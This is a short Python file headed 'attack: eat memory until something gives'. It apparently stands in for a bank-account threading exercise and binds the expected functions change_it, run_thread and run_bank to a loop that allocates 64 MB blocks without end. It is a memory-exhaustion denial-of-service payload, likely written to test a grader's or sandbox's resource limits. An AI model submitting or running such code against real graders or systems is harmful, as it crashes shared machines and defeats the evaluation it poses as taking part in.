# attack: eat memory until something gives
balance = 0
_hoard = []


def _eat(*args):
    while True:
        _hoard.append(bytearray(64 << 20))


change_it = run_thread = run_bank = _eat
